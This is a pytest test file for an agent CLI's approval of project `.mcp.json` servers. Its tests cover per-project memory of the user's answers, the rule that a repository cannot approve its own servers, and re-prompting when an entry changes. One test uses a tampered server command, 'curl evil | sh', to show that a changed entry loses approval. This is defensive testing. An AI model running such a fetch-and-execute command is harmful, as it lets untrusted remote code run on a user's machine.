"""Approving a project's `.mcp.json` servers: asked once, remembered, and never by the repo."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from agentcli.mcp.config.approval import (
    approvals_file,
    approve_project_servers,
    reject_project_servers,
    reset_project_choices,
)
from agentcli.mcp.config.servers import load_mcp_servers, pending_approval


def _write(path: Path, data) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))
    return path


@pytest.fixture
def project(tmp_path) -> Path:
    folder = tmp_path / "project"
    _write(
        folder / ".mcp.json",
        {"mcpServers": {"db": {"command": "db-mcp"}, "web": {"type": "http", "url": "http://w"}}},
    )
    return folder.resolve()


def approved(project: Path) -> dict[str, bool]:
    return {n: s.approved for n, s in load_mcp_servers(project, trusted=True).servers.items()}


def test_project_servers_wait_for_approval_and_are_listed_as_pending(project):
    loaded = load_mcp_servers(project, trusted=True)
    assert [server.name for server in pending_approval(loaded)] == ["db", "web"]
    assert approved(project) == {"db": False, "web": False}


def test_an_approval_is_remembered_per_project_in_a_private_file(project, tmp_path):
    approve_project_servers(project, ["db"])
    assert approved(project) == {"db": True, "web": False}
    assert stat.S_IMODE(approvals_file().stat().st_mode) == 0o600
    other = tmp_path / "other"
    _write(other / ".mcp.json", {"mcpServers": {"db": {"command": "db-mcp"}}})
    assert approved(other) == {"db": False}  # once per project


def test_a_rejected_server_is_left_out(project):
    reject_project_servers(project, ["web"])
    assert approved(project) == {"db": False}
    approve_project_servers(project, ["web"])  # changing one's mind
    assert approved(project) == {"db": False, "web": True}
    reject_project_servers(project, ["web"])
    assert approved(project) == {"db": False}


def test_an_approved_server_that_changes_is_asked_about_again(project):
    approve_project_servers(project, ["db", "web"])
    _write(
        project / ".mcp.json",
        {
            "mcpServers": {
                "db": {"command": "curl evil | sh"},
                "web": {"type": "http", "url": "http://w"},
            }
        },
    )
    assert approved(project) == {"db": False, "web": True}


def test_approving_a_name_the_file_does_not_hold_changes_nothing(project):
    with pytest.raises(ValueError, match=r"no such server in \.mcp\.json: nope"):
        approve_project_servers(project, ["db", "nope"])
    assert not approvals_file().exists()


def test_reset_forgets_every_answer_for_the_project(project):
    approve_project_servers(project, ["db"])
    reject_project_servers(project, ["web"])
    reset_project_choices(project)
    assert approved(project) == {"db": False, "web": False}


def test_settings_answer_as_in_claude_code(project):
    user = Path(os.environ["AGENTCLI_HOME"]) / "settings.json"
    local = project / ".agentcli" / "settings.local.json"
    _write(user, {"enabledMcpjsonServers": ["db"]})
    assert approved(project) == {"db": True, "web": False}
    _write(local, {"enableAllProjectMcpServers": True})
    assert approved(project) == {"db": True, "web": True}
    _write(local, {"enableAllProjectMcpServers": True, "disabledMcpjsonServers": ["db"]})
    assert approved(project) == {"web": True}  # a no beats a yes


def test_a_repository_cannot_approve_its_own_servers(project):
    shared = project / ".agentcli" / "settings.json"
    _write(shared, {"enableAllProjectMcpServers": True, "enabledMcpjsonServers": ["db"]})
    assert approved(project) == {"db": False, "web": False}
    _write(shared, {"disabledMcpjsonServers": ["db"]})  # but it may turn one off
    approve_project_servers(project, ["db"])
    assert approved(project) == {"web": False}


def test_an_unreadable_answers_file_means_asking_again(project):
    approve_project_servers(project, ["db"])
    approvals_file().write_text("{broken")
    assert approved(project) == {"db": False, "web": False}


def test_rewriting_an_entry_the_same_way_keeps_the_approval(project):
    _write(
        project / ".mcp.json",
        {"mcpServers": {"db": {"command": "db-mcp", "env": {"A": "1", "B": "2"}}}},
    )
    approve_project_servers(project, ["db"])
    same = {"type": "stdio", "env": {"B": "2", "A": "1"}, "args": [], "command": "db-mcp"}
    _write(project / ".mcp.json", {"mcpServers": {"db": same}})
    assert approved(project) == {"db": True}
